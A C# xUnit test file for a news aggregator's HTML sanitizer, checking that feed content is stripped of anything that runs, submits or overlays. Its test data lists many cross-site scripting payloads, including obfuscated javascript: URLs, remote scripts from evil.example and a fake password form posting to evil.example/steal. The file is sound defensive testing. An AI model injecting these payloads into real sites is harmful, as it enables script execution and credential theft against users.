using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using NewsAggregator.Web;

namespace NewsAggregator.Tests.Web;

/// <summary>Hostile feed HTML in, markup we can show out: nothing that runs, submits, overlays or points at our site.</summary>
public sealed class ContentSanitizerTests
{
    private const string Article = "https://news.example/world/2026/story.html";
    private readonly ContentSanitizer _sanitizer = new();

    public static TheoryData<string> Hostile => new()
    {
        "<script>alert(1)</script><p>text</p>",
        "<p>text</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)><p>text</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=5 /></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=password type=password><button>Sign in</button></form>",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>body{display:none}</style><p>text</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:white\">Sign in again</div>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<img src=\"https://cdn.example/a.png\" srcset=\"javascript:alert(1) 1x\">",
        "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">x</a>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>",
        "<p id=\"content\" class=\"overlay\" data-x=\"1\">x</p>",
        "<!--<script>alert(1)</script>--><p>x</p>",
        "<template><script>alert(1)</script></template>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Sanitize_HostileInput_NothingThatRunsSubmitsOrOverlays(string html)
    {
        var safe = _sanitizer.Sanitize(html, Article);
        var document = new HtmlParser().ParseDocument("<!doctype html><body><div id=\"content\">" + safe + "</div>");
        var content = document.GetElementById("content")!;
        string[] forbidden = ["script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math", "template", "video", "source", "noscript"];
        foreach (var element in content.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, forbidden);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} kept in {safe}");
                Assert.NotEqual("style", attribute.Name);
                Assert.NotEqual("srcset", attribute.Name);
                Assert.NotEqual("id", attribute.Name);
                Assert.NotEqual("class", attribute.Name);
                Assert.NotEqual("target", attribute.Name);
                if (attribute.Name is "href" or "src")
                    Assert.Matches("^(https?|mailto):", attribute.Value);
            }
        }
        Assert.DoesNotContain("javascript:", safe, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<!--", safe, StringComparison.Ordinal);
        // The only element id in the document is ours.
        Assert.Single(document.QuerySelectorAll("[id]"));
    }

    [Fact]
    public void Sanitize_RelativeUrls_ResolvedAgainstTheArticle()
    {
        var safe = Parse(_sanitizer.Sanitize("<a href=\"/about\">a</a><a href=\"next.html\">n</a><img src=\"../img/a.png\" alt=\"A\">", Article));
        var links = safe.QuerySelectorAll("a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(["https://news.example/about", "https://news.example/world/2026/next.html"], links);
        Assert.Equal("https://news.example/world/img/a.png", safe.QuerySelector("img")!.GetAttribute("src"));
    }

    [Fact]
    public void Sanitize_RelativeUrlsWithoutArticleUrl_Dropped()
    {
        var safe = Parse(_sanitizer.Sanitize("<a href=\"/admin\">a</a><img src=\"x.png\" alt=\"x\">", baseUrl: null));
        Assert.False(safe.QuerySelector("a")!.HasAttribute("href"));
        Assert.False(safe.QuerySelector("img")!.HasAttribute("src"));
        Assert.Equal("a", safe.QuerySelector("a")!.TextContent); // the text stays readable
    }

    [Fact]
    public void Sanitize_NonHttpArticleUrl_LendsNoScheme()
    {
        var safe = _sanitizer.Sanitize("<a href=\"alert(1)\">a</a>", "javascript:void(0)/");
        Assert.DoesNotContain("href", safe, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitize_Links_GetNofollowNoopenerNoreferrer()
    {
        var safe = Parse(_sanitizer.Sanitize("<a href=\"https://ok.example/\" rel=\"opener\">x</a><a href=\"mailto:desk@news.example\">m</a>", Article));
        Assert.All(safe.QuerySelectorAll("a"), a => Assert.Equal("nofollow noopener noreferrer", a.GetAttribute("rel")));
        Assert.Equal("mailto:desk@news.example", safe.QuerySelectorAll("a")[1].GetAttribute("href"));
    }

    [Fact]
    public void Sanitize_OrdinaryArticle_KeepsItsStructure()
    {
        const string html = "<h2>Heading</h2><p>First <b>bold</b> and <em>em</em>.</p><blockquote>Quote</blockquote><ul><li>one</li></ul>" +
            "<figure><img src=\"https://cdn.example/a.jpg\" alt=\"Photo\" width=\"640\" height=\"480\"><figcaption>Caption</figcaption></figure>" +
            "<table><tr><th>A</th><td>1</td></tr></table>";
        var safe = _sanitizer.Sanitize(html, Article);
        foreach (var kept in new[] { "<h2>Heading</h2>", "<b>bold</b>", "<em>em</em>", "<blockquote>Quote</blockquote>", "<li>one</li>", "alt=\"Photo\"", "<figcaption>Caption</figcaption>", "<th>A</th>" })
            Assert.Contains(kept, safe, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitize_Empty_Empty()
    {
        Assert.Equal("", _sanitizer.Sanitize("", Article));
    }

    private static IElement Parse(string fragment) =>
        new HtmlParser().ParseDocument("<!doctype html><body><div id=\"content\">" + fragment + "</div>").GetElementById("content")!;
}
